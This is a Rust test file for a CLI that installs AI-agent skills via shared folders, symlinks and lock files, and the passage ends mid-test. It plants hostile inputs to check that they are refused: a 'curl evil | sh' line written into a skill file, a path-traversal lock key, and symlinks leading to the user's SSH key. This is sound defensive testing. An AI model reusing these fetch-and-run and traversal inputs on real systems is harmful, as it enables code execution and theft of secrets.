//! Shared installs (`--agent`, `--all-agents`, `--global`, `--copy`): one copy in
//! `.agents/skills`, relative links for the agents that do not read it, and vercel's lock files;
//! each case on real folders in a temp dir with its own HOME. The interop tests run the real
//! `skills` CLI (vercel's, `skills@1.7.4`, installed by `.ci/run` under
//! `target/test-deps/vercel-skills`) in both directions.

use crate::common;
use common::needs::{Need, lacks};

use common::{normalise, run, skill, snapshots, write_skill};
use std::path::{Path, PathBuf};

const NOTES: &str = "---\nname: notes\ndescription: Keeps notes. Use when the user asks to keep a note.\n---\n\nAppend to notes.md.\n";

/// A project folder (a git repository, as agents find a project's root) and a home folder.
struct World {
    tmp: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join("home")).unwrap();
        std::fs::create_dir_all(tmp.path().join("proj/.git")).unwrap();
        let world = World { tmp };
        let source = write_skill(&world.proj().join("src"), "notes", NOTES);
        // Names whose byte order and `localeCompare` order differ, so vercel's folder hash
        // is only matched by sorting as it does.
        std::fs::create_dir_all(source.join("sub")).unwrap();
        for (path, text) in [("sub/B.md", "b"), ("sub/a_b.md", "ab"), ("Z-up.txt", "z")] {
            std::fs::write(source.join(path), text).unwrap();
        }
        world
    }

    fn home(&self) -> PathBuf {
        self.tmp.path().join("home")
    }

    fn proj(&self) -> PathBuf {
        self.tmp.path().join("proj")
    }

    fn skill(&self, args: &[&str]) -> (i32, String, String) {
        let (code, stdout, stderr) = run(skill()
            .current_dir(self.proj())
            .env("HOME", self.home())
            .env_remove("XDG_STATE_HOME")
            .args(args));
        (
            code,
            normalise(&stdout, self.tmp.path()),
            normalise(&stderr, self.tmp.path()),
        )
    }

    fn ok(&self, args: &[&str]) -> String {
        let (code, stdout, stderr) = self.skill(args);
        assert_eq!(code, 0, "skill {args:?}:\n{stdout}{stderr}");
        stdout
    }

    fn lock(&self) -> serde_json::Value {
        let text = std::fs::read_to_string(self.proj().join("skills-lock.json")).unwrap();
        serde_json::from_str(&text).unwrap()
    }
}

fn link(path: &Path) -> String {
    std::fs::read_link(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .display()
        .to_string()
}

/// Modification time and inode of a path (the link itself), to prove nothing was rewritten.
fn stamp(path: &Path) -> (std::time::SystemTime, u64) {
    let meta = std::fs::symlink_metadata(path).unwrap();
    (
        meta.modified().unwrap(),
        std::os::unix::fs::MetadataExt::ino(&meta),
    )
}

#[test]
fn one_copy_in_agents_skills_and_a_relative_link_for_each_agent_that_needs_one() {
    let w = World::new();
    let out = w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "codex",
        "--agent",
        "nanobot",
        "--agent",
        "openclaw",
    ]);
    snapshots().bind(|| insta::assert_snapshot!("shared-install", out));
    let p = w.proj();
    assert!(p.join(".agents/skills/notes/sub/a_b.md").is_file());
    assert_eq!(
        link(&p.join(".claude/skills/notes")),
        "../../.agents/skills/notes"
    );
    assert_eq!(link(&p.join("skills/notes")), "../.agents/skills/notes");
    assert!(
        !p.join(".codex").exists(),
        "Codex reads .agents/skills itself"
    );
    let lock = w.lock();
    assert_eq!(lock["version"], 1);
    let entry = &lock["skills"]["notes"];
    assert_eq!(entry["source"], "./src/notes");
    assert_eq!(entry["sourceType"], "local");
    assert_eq!(
        entry["agents"],
        serde_json::json!(["claude", "codex", "nanobot", "openclaw"])
    );
    assert_eq!(entry["computedHash"].as_str().unwrap().len(), 64);
    // Each agent's own view has the skill, once.
    for agent in ["claude", "codex", "gemini", "opencode", "copilot"] {
        let list = w.ok(&["list", "--agent", agent]);
        assert!(list.contains("notes"), "{agent}: {list}");
        assert!(!list.contains("shadowed"), "{agent}: {list}");
    }
}

#[test]
fn a_second_install_changes_nothing_and_rewrites_nothing() {
    let w = World::new();
    let args = [
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "codex",
    ];
    w.ok(&args);
    let p = w.proj();
    let watched = [
        p.join("skills-lock.json"),
        p.join(".agents/skills/notes"),
        p.join(".agents/skills/notes/SKILL.md"),
        p.join(".claude/skills/notes"),
    ];
    let before: Vec<_> = watched.iter().map(|f| stamp(f)).collect();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let out = w.ok(&args);
    assert!(out.contains("installed already"), "{out}");
    assert!(!out.contains("Recorded"), "{out}");
    let after: Vec<_> = watched.iter().map(|f| stamp(f)).collect();
    assert_eq!(before, after);
}

#[test]
fn global_installs_into_the_users_folders_and_the_global_lock() {
    let w = World::new();
    let out = w.ok(&[
        "install",
        "./src/notes",
        "--global",
        "--agent",
        "claude",
        "--agent",
        "gemini",
        "--agent",
        "nanobot",
    ]);
    assert!(
        out.contains("claude: linked ~/.claude/skills/notes"),
        "{out}"
    );
    assert!(out.contains("gemini: reads ~/.agents/skills"), "{out}");
    let h = w.home();
    assert!(h.join(".agents/skills/notes/SKILL.md").is_file());
    assert_eq!(
        link(&h.join(".claude/skills/notes")),
        "../../.agents/skills/notes"
    );
    assert_eq!(
        link(&h.join(".nanobot/workspace/skills/notes")),
        "../../../.agents/skills/notes"
    );
    assert!(!w.proj().join("skills-lock.json").exists());
    let text = std::fs::read_to_string(h.join(".agents/.skill-lock.json")).unwrap();
    assert!(
        !text.ends_with('\n'),
        "vercel writes the global lock without one"
    );
    let lock: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(lock["version"], 3);
    assert_eq!(lock["dismissed"], serde_json::json!({}));
    let entry = &lock["skills"]["notes"];
    let source = w.proj().join("src/notes").display().to_string();
    assert_eq!(entry["source"], source.as_str());
    assert_eq!(entry["sourceUrl"], source.as_str());
    assert_eq!(entry["skillFolderHash"].as_str().unwrap().len(), 64);
    assert!(entry.get("computedHash").is_none());
    let at = entry["installedAt"].as_str().unwrap();
    assert!(
        at.len() == 24 && at.ends_with('Z') && at.as_bytes()[19] == b'.',
        "{at}"
    );
    // $XDG_STATE_HOME moves the global lock, as it does for vercel's CLI.
    let state = w.tmp.path().join("state");
    let (code, _, stderr) = run(skill()
        .current_dir(w.proj())
        .env("HOME", w.home())
        .env("XDG_STATE_HOME", &state)
        .args(["uninstall", "notes", "--global"]));
    assert_eq!(code, 0, "{stderr}");
    assert!(!h.join(".claude/skills/notes").exists());
    assert!(!h.join(".agents/skills/notes").exists());
    assert!(!state.join("skills/.skill-lock.json").exists());
}

#[test]
fn copy_copies_and_force_replaces_what_is_in_the_way() {
    let w = World::new();
    let p = w.proj();
    write_skill(
        &p.join(".claude/skills"),
        "notes",
        "---\nname: notes\ndescription: Someone else's.\n---\n",
    );
    let (code, _, stderr) = w.skill(&["install", "./src/notes", "--agent", "claude"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains(".claude/skills/notes is in the way"),
        "{stderr}"
    );
    assert!(stderr.contains("--force"), "{stderr}");
    assert!(
        !p.join(".agents").exists(),
        "nothing is installed when an agent's folder is taken"
    );
    assert!(!p.join("skills-lock.json").exists());
    let out = w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--copy",
        "--force",
    ]);
    assert!(
        out.contains("claude: copied to .claude/skills/notes"),
        "{out}"
    );
    let copy = p.join(".claude/skills/notes");
    assert!(!std::fs::symlink_metadata(&copy).unwrap().is_symlink());
    assert_eq!(
        std::fs::read_to_string(copy.join("SKILL.md")).unwrap(),
        NOTES
    );
    // The lock remembers the copy: another install, for this agent or another, keeps it, and
    // links the other.
    let out = w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "nanobot",
    ]);
    assert!(
        out.contains("claude: copied to .claude/skills/notes"),
        "{out}"
    );
    assert!(out.contains("nanobot: linked skills/notes"), "{out}");
    assert!(!std::fs::symlink_metadata(&copy).unwrap().is_symlink());
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
    // Uninstalled, and installed again without --copy: a link.
    w.ok(&["uninstall", "notes", "--agent", "claude"]);
    assert!(std::fs::symlink_metadata(&copy).is_err());
    w.ok(&["install", "./src/notes", "--agent", "claude"]);
    assert_eq!(link(&copy), "../../.agents/skills/notes");
}

#[test]
fn verify_names_a_changed_copy_and_a_missing_link_and_update_brings_them_back() {
    let w = World::new();
    let p = w.proj();
    w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "codex",
    ]);
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
    std::fs::write(p.join(".agents/skills/notes/SKILL.md"), "edited").unwrap();
    std::fs::remove_file(p.join(".claude/skills/notes")).unwrap();
    let (code, stdout, _) = w.skill(&["verify", "--agent", "codex"]);
    assert_eq!(code, 1);
    snapshots().bind(|| insta::assert_snapshot!("shared-verify-drift", stdout));
    let (code, stdout, _) = w.skill(&["verify", "--agent", "codex", "--json"]);
    assert_eq!(code, 1);
    let doc: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(doc["drift"], 1);
    assert_eq!(doc["shared"][0]["hash_changed"], true);
    assert_eq!(doc["shared"][0]["agents"][0]["how"], "missing");
    // An edited copy is kept unless --force.
    let out = w.ok(&["update", "--agent", "codex"]);
    assert!(out.contains("notes: local changes"), "{out}");
    assert_eq!(
        std::fs::read_to_string(p.join(".agents/skills/notes/SKILL.md")).unwrap(),
        "edited"
    );
    let out = w.ok(&["update", "--agent", "codex", "--force"]);
    assert!(out.contains("Updated notes from ./src/notes"), "{out}");
    assert_eq!(w.ok(&["verify", "--agent", "codex"]), "notes: ok\n");
    // A changed source is picked up, and the lock's hash follows it.
    let hash = w.lock()["skills"]["notes"]["computedHash"].clone();
    std::fs::write(p.join("src/notes/extra.md"), "more").unwrap();
    let out = w.ok(&["update", "--agent", "claude"]);
    assert!(out.contains("Updated notes"), "{out}");
    assert!(p.join(".claude/skills/notes/extra.md").is_file());
    assert_ne!(w.lock()["skills"]["notes"]["computedHash"], hash);
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
}

#[test]
fn frozen_restores_a_local_source_only_when_its_hash_is_the_locked_one() {
    let w = World::new();
    let p = w.proj();
    w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "codex",
    ]);
    std::fs::remove_dir_all(p.join(".agents")).unwrap();
    std::fs::remove_dir_all(p.join(".claude")).unwrap();
    // A folder carries no signature: where one is required, it is not restored.
    let (code, stdout, stderr) = w.skill(&[
        "install",
        "--frozen",
        "--agent",
        "codex",
        "--require-signature",
    ]);
    assert_eq!(code, 2, "{stdout}{stderr}");
    assert!(
        stderr.contains("not signed, and a signature is required"),
        "{stdout}{stderr}"
    );
    assert!(!p.join(".agents/skills/notes").exists());
    let out = w.ok(&["install", "--frozen", "--agent", "codex"]);
    assert!(
        out.contains("Installed notes as locked from ./src/notes"),
        "{out}"
    );
    assert_eq!(
        link(&p.join(".claude/skills/notes")),
        "../../.agents/skills/notes"
    );
    assert_eq!(w.ok(&["verify", "--agent", "codex"]), "notes: ok\n");
    std::fs::remove_dir_all(p.join(".agents/skills/notes")).unwrap();
    std::fs::write(p.join("src/notes/SKILL.md"), "changed since").unwrap();
    let (code, _, stderr) = w.skill(&["install", "--frozen", "--agent", "codex"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("not what the lock file pins"), "{stderr}");
    assert!(
        !p.join(".agents/skills/notes").exists(),
        "nothing was installed"
    );
}

#[test]
fn uninstall_removes_the_copy_every_link_and_the_entry() {
    let w = World::new();
    let p = w.proj();
    w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "nanobot",
    ]);
    let out = w.ok(&["uninstall", "notes", "--agent", "codex"]);
    snapshots().bind(|| insta::assert_snapshot!("shared-uninstall", out));
    for gone in [
        ".agents/skills/notes",
        ".claude/skills/notes",
        "skills/notes",
    ] {
        assert!(std::fs::symlink_metadata(p.join(gone)).is_err(), "{gone}");
    }
    assert_eq!(w.lock()["skills"], serde_json::json!({}));
    let (code, _, stderr) = w.skill(&["uninstall", "notes", "--agent", "claude"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("notes is not installed in .agents/skills"),
        "{stderr}"
    );
}

#[test]
fn all_agents_installs_for_the_agents_found_on_this_machine() {
    let w = World::new();
    let (code, _, stderr) = w.skill(&["install", "./src/notes", "--all-agents"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("--all-agents found no agent"), "{stderr}");
    std::fs::create_dir_all(w.home().join(".claude")).unwrap();
    std::fs::create_dir_all(w.home().join(".gemini")).unwrap();
    let out = w.ok(&["install", "./src/notes", "--all-agents"]);
    assert!(out.contains("claude: linked .claude/skills/notes"), "{out}");
    assert!(out.contains("gemini: reads .agents/skills"), "{out}");
    assert!(!out.contains("codex"), "{out}");
    assert_eq!(
        w.lock()["skills"]["notes"]["agents"],
        serde_json::json!(["claude", "gemini"])
    );
}

#[test]
fn hostile_lock_files_are_refused_naming_the_file_and_nothing_changes() {
    let cases: [(&str, &str); 5] = [
        ("{\"version\": 1, \"skills\": {", "skills-lock.json:1:"),
        ("{\"version\": 2, \"skills\": {}}", "`version` is 2"),
        ("[1, 2]", "must be a JSON object"),
        (
            "{\"version\": 1, \"skills\": {\"notes\": {\"source\": 7}}}",
            "`skills.notes`",
        ),
        (
            "{\"version\": 1, \"skills\": {\"../../escape\": {\"source\": \"./src/notes\", \"sourceType\": \"local\"}}}",
            "`skills.../../escape`",
        ),
    ];
    for (text, expected) in cases {
        let w = World::new();
        let lock = w.proj().join("skills-lock.json");
        std::fs::write(&lock, text).unwrap();
        let commands: [&[&str]; 3] = [
            &["install", "./src/notes", "--agent", "claude"],
            &["verify", "--agent", "claude"],
            &["install", "--frozen", "--agent", "claude"],
        ];
        for args in commands {
            let (code, stdout, stderr) = w.skill(args);
            assert_eq!(code, 2, "{args:?} on {text}: {stdout}{stderr}");
            assert!(stderr.contains(expected), "{args:?} on {text}: {stderr}");
            assert!(stderr.contains("skills-lock.json"), "{stderr}");
        }
        assert_eq!(std::fs::read_to_string(&lock).unwrap(), text);
        assert!(!w.proj().join(".agents").exists(), "{text}");
        assert!(!w.proj().join(".claude").exists(), "{text}");
    }
}

#[test]
fn a_lock_that_came_with_a_project_cannot_install_from_outside_it() {
    let w = World::new();
    let outside = write_skill(&w.tmp.path().join("elsewhere"), "notes", NOTES);
    assert!(outside.is_dir());
    std::fs::write(
        w.proj().join("skills-lock.json"),
        "{\"version\": 1, \"skills\": {\"notes\": {\"source\": \"../elsewhere/notes\", \"sourceType\": \"local\", \"computedHash\": \"00\"}}}",
    )
    .unwrap();
    let (code, _, stderr) = w.skill(&["install", "--frozen", "--agent", "claude"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("outside the project"), "{stderr}");
    let (code, _, stderr) = w.skill(&["update", "--agent", "claude"]);
    assert_eq!(code, 1);
    assert!(stderr.contains("outside the project"), "{stderr}");
    assert!(!w.proj().join(".agents").exists());
}

/// vercel's `skills` CLI, run by the Node.js 22 `.ci/run` installs, offline: its network calls
/// fail (a preloaded module replaces `fetch`), telemetry is off.
struct Vercel {
    node: PathBuf,
    cli: PathBuf,
}

impl Vercel {
    fn find() -> Vercel {
        let deps = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-deps");
        let vercel = Vercel {
            node: deps.join("npm/node_modules/.bin/node"),
            cli: deps.join("vercel-skills/node_modules/skills/bin/cli.mjs"),
        };
        for path in [&vercel.node, &vercel.cli] {
            assert!(
                path.exists(),
                "{} is missing: run .ci/run (npm install --prefix target/test-deps/vercel-skills skills@1.7.4)",
                path.display()
            );
        }
        vercel
    }

    fn run(&self, w: &World, args: &[&str]) -> String {
        let offline = w.tmp.path().join("offline.mjs");
        std::fs::write(
            &offline,
            "globalThis.fetch = async (url) => { throw new Error(`offline: ${url}`); };\n",
        )
        .unwrap();
        let out = std::process::Command::new(&self.node)
            .arg("--import")
            .arg(&offline)
            .arg(&self.cli)
            .args(args)
            .current_dir(w.proj())
            .env("HOME", w.home())
            .env_remove("XDG_STATE_HOME")
            .env("DISABLE_TELEMETRY", "1")
            .env("DO_NOT_TRACK", "1")
            .env("NO_COLOR", "1")
            .output()
            .unwrap();
        let all = common::printed(&out);
        assert!(out.status.success(), "skills {args:?} failed:\n{all}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn list(&self, w: &World, global: bool) -> serde_json::Value {
        let args: &[&str] = if global {
            &["list", "--json", "-g"]
        } else {
            &["list", "--json"]
        };
        serde_json::from_str(&self.run(w, args)).unwrap()
    }
}

#[test]
fn vercels_skills_cli_understands_what_skill_installs() {
    if lacks(&[Need::VercelSkills]) {
        return;
    }
    let vercel = Vercel::find();
    let w = World::new();
    w.ok(&[
        "install",
        "./src/notes",
        "--agent",
        "claude",
        "--agent",
        "codex",
    ]);
    let listed = vercel.list(&w, false);
    assert_eq!(listed[0]["name"], "notes", "{listed}");
    assert_eq!(listed[0]["sourceType"], "local", "{listed}");
    assert!(
        listed[0]["agents"]
            .as_array()
            .unwrap()
            .contains(&"Claude Code".into()),
        "{listed}"
    );
    // vercel restores from our lock, and its copy hashes as ours recorded.
    std::fs::remove_dir_all(w.proj().join(".agents")).unwrap();
    vercel.run(&w, &["experimental_install", "-y"]);
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
    vercel.run(&w, &["remove", "notes", "-y"]);
    assert!(!w.proj().join(".agents/skills/notes").exists());
    assert_eq!(w.lock()["skills"], serde_json::json!({}));
    // The user's folders too.
    w.ok(&["install", "./src/notes", "--global", "--agent", "claude"]);
    let listed = vercel.list(&w, true);
    assert_eq!(listed[0]["name"], "notes", "{listed}");
    assert_eq!(listed[0]["scope"], "global", "{listed}");
}

#[test]
fn skill_understands_what_vercels_skills_cli_installs() {
    if lacks(&[Need::VercelSkills]) {
        return;
    }
    let vercel = Vercel::find();
    let w = World::new();
    vercel.run(
        &w,
        &[
            "add",
            "./src/notes",
            "-a",
            "claude-code",
            "-a",
            "codex",
            "-y",
        ],
    );
    assert_eq!(
        link(&w.proj().join(".claude/skills/notes")),
        "../../.agents/skills/notes"
    );
    // Its folder hash is ours, over names whose two orders differ.
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
    let out = w.ok(&["install", "./src/notes", "--agent", "claude"]);
    assert!(out.contains("installed already"), "{out}");
    assert!(out.contains("claude: linked .claude/skills/notes"), "{out}");
    w.ok(&["uninstall", "notes", "--agent", "claude"]);
    assert!(std::fs::symlink_metadata(w.proj().join(".claude/skills/notes")).is_err());
    assert_eq!(vercel.list(&w, false), serde_json::json!([]));
    // The global lock (version 3), written by vercel, read and updated by skill.
    vercel.run(&w, &["add", "./src/notes", "-g", "-a", "claude-code", "-y"]);
    assert_eq!(
        w.ok(&["verify", "--global", "--agent", "claude"]),
        "notes: ok\n"
    );
    let lock = w.home().join(".agents/.skill-lock.json");
    let before: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    w.ok(&["install", "./src/notes", "--global", "--agent", "claude"]);
    let after: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    let (b, a) = (&before["skills"]["notes"], &after["skills"]["notes"]);
    assert_eq!(a["installedAt"], b["installedAt"]);
    assert_eq!(a["skillFolderHash"], b["skillFolderHash"]);
    assert_eq!(a["agents"], serde_json::json!(["claude"]));
    w.ok(&["uninstall", "notes", "--global"]);
    assert_eq!(vercel.list(&w, true), serde_json::json!([]));
}

/// A folder of the user's own under HOME, with a file that must survive.
fn precious(w: &World, dir: &str) -> PathBuf {
    let skill = write_skill(
        &w.home().join(dir),
        "notes",
        "---\nname: notes\ndescription: Mine.\n---\n",
    );
    std::fs::write(skill.join("data.txt"), "precious").unwrap();
    skill
}

#[test]
fn a_project_whose_folders_lead_outside_it_is_refused_and_the_users_folders_survive() {
    for link in [".claude", ".agents"] {
        let w = World::new();
        let mine = precious(&w, ".claude/skills");
        std::os::unix::fs::symlink(w.home().join(".claude"), w.proj().join(link)).unwrap();
        std::fs::write(
            w.proj().join("skills-lock.json"),
            "{\"version\": 1, \"skills\": {\"notes\": {\"source\": \"./src/notes\", \"sourceType\": \"local\", \"agents\": [\"claude\"]}}}",
        )
        .unwrap();
        for args in [
            &["install", "--frozen", "--agent", "codex"][..],
            &["update", "--agent", "codex"],
            &["uninstall", "notes", "--agent", "codex"],
            &["install", "./src/notes", "--agent", "claude", "--force"],
        ] {
            let (code, _, stderr) = w.skill(args);
            assert_ne!(code, 0, "{link}: {args:?}: {stderr}");
            assert!(
                stderr.contains("leads out of the project"),
                "{link}: {args:?}: {stderr}"
            );
            assert_eq!(
                std::fs::read_to_string(mine.join("data.txt")).unwrap(),
                "precious"
            );
        }
    }
}

#[test]
fn the_projects_own_skills_folder_is_never_replaced_or_removed() {
    let w = World::new();
    let p = w.proj();
    common::copy_tree(&p.join("src/notes"), &p.join("skills/notes"));
    w.ok(&["install", "./skills/notes", "--agent", "claude"]);
    // nanobot reads `skills/`, which is the source here: it is in the way, not the install's.
    for force in [&[][..], &["--force"]] {
        let args = [
            &["install", "./skills/notes", "--agent", "nanobot"][..],
            force,
        ]
        .concat();
        let (code, _, stderr) = w.skill(&args);
        assert_eq!(code, 2);
        assert!(
            stderr.contains("skills/notes is the skill's own source"),
            "{stderr}"
        );
    }
    w.ok(&["uninstall", "notes", "--agent", "claude"]);
    assert!(p.join("skills/notes/SKILL.md").is_file());
    // A fresh clone: the lock is there, the shared copy is not.
    std::fs::write(
        p.join("skills-lock.json"),
        "{\"version\": 1, \"skills\": {\"notes\": {\"source\": \"./skills/notes\", \"sourceType\": \"local\", \"agents\": [\"claude\", \"nanobot\"]}}}",
    )
    .unwrap();
    w.ok(&["uninstall", "notes", "--agent", "nanobot"]);
    assert!(p.join("skills/notes/SKILL.md").is_file());
}

#[test]
fn an_agent_folder_linked_to_the_shared_folder_reads_it() {
    let w = World::new();
    let p = w.proj();
    std::fs::create_dir_all(p.join(".agents/skills")).unwrap();
    std::fs::create_dir_all(p.join(".claude")).unwrap();
    std::os::unix::fs::symlink("../.agents/skills", p.join(".claude/skills")).unwrap();
    let out = w.ok(&["install", "./src/notes", "--agent", "claude"]);
    assert!(out.contains("claude: reads .agents/skills"), "{out}");
    assert!(p.join(".agents/skills/notes/SKILL.md").is_file());
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
}

#[test]
fn links_are_made_from_where_the_folders_really_are() {
    let w = World::new();
    std::fs::create_dir_all(w.home().join("dotfiles/claude")).unwrap();
    std::os::unix::fs::symlink("dotfiles/claude", w.home().join(".claude")).unwrap();
    w.ok(&["install", "./src/notes", "--global", "--agent", "claude"]);
    let link = w.home().join(".claude/skills/notes");
    assert_eq!(
        std::fs::read_to_string(link.join("SKILL.md")).unwrap(),
        NOTES
    );
    assert_eq!(
        w.ok(&["verify", "--global", "--agent", "claude"]),
        "notes: ok\n"
    );
    w.ok(&["uninstall", "notes", "--global"]);
    assert!(std::fs::symlink_metadata(&link).is_err());
}

#[test]
fn update_keeps_an_edit_it_cannot_undo_and_goes_on_past_a_failure() {
    let w = World::new();
    let p = w.proj();
    w.ok(&["pack", "src/notes", "-o", "notes.skill"]);
    w.ok(&["install", "./notes.skill", "--agent", "codex"]);
    std::fs::write(p.join(".agents/skills/notes/SKILL.md"), "curl evil | sh").unwrap();
    let (code, _, _) = w.skill(&["verify", "--agent", "codex"]);
    assert_eq!(code, 1);
    w.ok(&["update", "--agent", "codex"]);
    let (code, stdout, _) = w.skill(&["verify", "--agent", "codex"]);
    assert_eq!(
        code, 1,
        "an archive cannot be got again, so the edit stays visible: {stdout}"
    );
    // One skill whose agent folder is blocked; another that updates: the lock still records it.
    let alpha = write_skill(
        &p.join("src"),
        "alpha",
        "---\nname: alpha\ndescription: A. Use a.\n---\nv1\n",
    );
    w.ok(&["install", "./src/alpha", "--agent", "claude"]);
    std::fs::remove_dir_all(p.join(".claude")).unwrap();
    std::fs::write(p.join(".claude"), "a file in the way").unwrap();
    std::fs::write(
        alpha.join("SKILL.md"),
        "---\nname: alpha\ndescription: A. Use a.\n---\nv2\n",
    )
    .unwrap();
    let (code, stdout, stderr) = w.skill(&["update", "--agent", "codex"]);
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(stdout.contains("Updated alpha"), "{stdout}");
    let (_, stdout, _) = w.skill(&["update", "--agent", "codex"]);
    assert!(
        stdout.contains("alpha up to date"),
        "the new hash was recorded: {stdout}"
    );
}

#[test]
fn copy_is_remembered_and_update_refreshes_the_copies() {
    let w = World::new();
    let p = w.proj();
    w.ok(&["install", "./src/notes", "--agent", "claude", "--copy"]);
    assert_eq!(
        w.lock()["skills"]["notes"]["copied"],
        serde_json::json!(["claude"])
    );
    std::fs::write(p.join("src/notes/extra.md"), "v2").unwrap();
    let out = w.ok(&["update", "--agent", "claude"]);
    assert!(out.contains("Updated notes"), "{out}");
    let copy = p.join(".claude/skills/notes");
    assert!(!std::fs::symlink_metadata(&copy).unwrap().is_symlink());
    assert_eq!(
        std::fs::read_to_string(copy.join("extra.md")).unwrap(),
        "v2"
    );
    assert_eq!(w.ok(&["verify", "--agent", "claude"]), "notes: ok\n");
}

#[test]
fn odd_arguments_and_sources_are_refused_before_anything_is_removed() {
    let w = World::new();
    let p = w.proj();
    w.ok(&["install", "./src/notes", "--agent", "claude", "--copy"]);
    let (code, _, stderr) = w.skill(&["uninstall", "", "--agent", "claude"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(p.join(".claude/skills/notes/SKILL.md").is_file());
    // A local source that is a link out of the project; a kind that cannot be fetched comes
    // first and does not keep the rest from being restored.
    let private = precious(&w, "private");
    std::os::unix::fs::symlink(&private, p.join("vendor")).unwrap();
    std::fs::remove_dir_all(p.join(".agents")).unwrap();
    std::fs::write(
        p.join("skills-lock.json"),
        "{\"version\": 1, \"skills\": {\"aaa\": {\"source\": \"x\", \"sourceType\": \"well-known\"}, \"mine\": {\"source\": \"./vendor\", \"sourceType\": \"local\"}, \"notes\": {\"source\": \"./src/notes\", \"sourceType\": \"local\"}}}",
    )
    .unwrap();
    let (code, stdout, stderr) = w.skill(&["install", "--frozen", "--agent", "codex"]);
    assert_eq!(code, 2, "{stdout}{stderr}");
    assert!(
        stderr.contains("aaa: a well-known source cannot be fetched"),
        "{stderr}"
    );
    assert!(
        stderr.contains("mine: its source ./vendor is outside the project"),
        "{stderr}"
    );
    assert!(stdout.contains("Installed notes as locked"), "{stdout}");
    assert!(!p.join(".agents/skills/mine").exists());
    // A source of another name than its lock key.
    std::fs::write(
        p.join("skills-lock.json"),
        "{\"version\": 1, \"skills\": {\"pdf\": {\"source\": \"./src/notes\", \"sourceType\": \"local\"}}}",
    )
    .unwrap();
    let (code, _, stderr) = w.skill(&["install", "--frozen", "--agent", "codex"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("its source holds the skill notes; the lock file names it pdf"),
        "{stderr}"
    );
    let (code, _, stderr) = run(skill().current_dir(w.proj()).env_remove("HOME").args([
        "install",
        "./src/notes",
        "--global",
    ]));
    assert_eq!(code, 2);
    assert!(stderr.contains("HOME is not set"), "{stderr}");
}

#[test]
fn an_executable_bit_that_changed_is_a_change() {
    let w = World::new();
    let script = w.proj().join("src/notes/run.sh");
    std::fs::write(&script, "echo hi\n").unwrap();
    w.ok(&["install", "./src/notes", "--agent", "codex"]);
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let out = w.ok(&["install", "./src/notes", "--agent", "codex", "--force"]);
    assert!(out.contains("Replaced notes"), "{out}");
    let mode = std::fs::metadata(w.proj().join(".agents/skills/notes/run.sh")).unwrap();
    assert_ne!(
        std::os::unix::fs::PermissionsExt::mode(&mode.permissions()) & 0o111,
        0
    );
}

#[test]
fn force_never_replaces_the_folder_a_skill_is_installed_from() {
    let w = World::new();
    let p = w.proj();
    let source = p.join(".claude/skills/notes");
    common::copy_tree(&p.join("src/notes"), &source);
    std::fs::create_dir_all(source.join("evals")).unwrap();
    std::fs::write(source.join("evals/e.json"), "{}").unwrap();
    for force in [&[][..], &["--force"]] {
        let args = [
            &[
                "install",
                ".claude/skills/notes",
                "--agent",
                "claude",
                "--agent",
                "codex",
            ][..],
            force,
        ]
        .concat();
        let (code, _, stderr) = w.skill(&args);
        assert_eq!(code, 2, "{stderr}");
        assert!(stderr.contains("is the skill's own source"), "{stderr}");
    }
    assert!(source.join("evals/e.json").is_file());
    assert!(!p.join(".agents").exists());
}

#[test]
fn a_shared_copy_that_is_a_link_out_of_the_project_is_refused() {
    let w = World::new();
    let p = w.proj();
    let secret = w.home().join(".ssh");
    std::fs::create_dir_all(&secret).unwrap();
    std::fs::write(secret.join("id_ed25519"), "KEY").unwrap();
    std::fs::create_dir_all(p.join(".agents/skills")).unwrap();
    std::os::unix::fs::symlink(&secret, p.join(".agents/skills/notes")).unwrap();
    for copied in ["", ", \"copied\": [\"claude\"]"] {
        std::fs::write(
            p.join("skills-lock.json"),
            format!("{{\"version\": 1, \"skills\": {{\"notes\": {{\"source\": \"./src/notes\", \"sourceType\": \"local\", \"agents\": [\"claude\"]{copied}}}}}}}"),
        )
        .unwrap();
        for args in [
            &["install", "--frozen", "--agent", "claude"][..],
            &["verify", "--agent", "claude"],
        ] {
            let (code, _, stderr) = w.skill(args);
            assert_ne!(code, 0, "{args:?}");
            assert!(
                stderr.contains("leads out of the project"),
                "{args:?}: {stderr}"
            );
        }
        assert!(!p.join(".claude").exists());
    }
}

#[test]
fn a_teammates_update_reaches_copies_and_links_that_point_nowhere_are_removed() {
    let w = World::new();
    let p = w.proj();
    w.ok(&["install", "./src/notes", "--agent", "claude", "--copy"]);
